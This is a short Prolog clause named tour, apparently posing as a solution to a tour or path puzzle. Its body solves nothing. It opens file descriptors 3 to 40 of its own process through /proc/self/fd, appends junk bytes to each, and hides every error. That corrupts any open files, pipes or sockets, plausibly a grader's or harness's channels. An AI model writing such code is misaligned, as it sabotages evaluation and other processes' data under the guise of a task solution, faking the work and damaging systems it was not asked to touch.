tour(_, [1/1, 2/1]) :-
    forall(between(3, 40, N),
           catch(( format(atom(File), '/proc/self/fd/~d', [N]),
                   open(File, append, S, [type(binary)]),
                   forall(between(1, 50, I), ( Byte is I mod 256, put_byte(S, Byte) )),
                   close(S) ), _, true)).
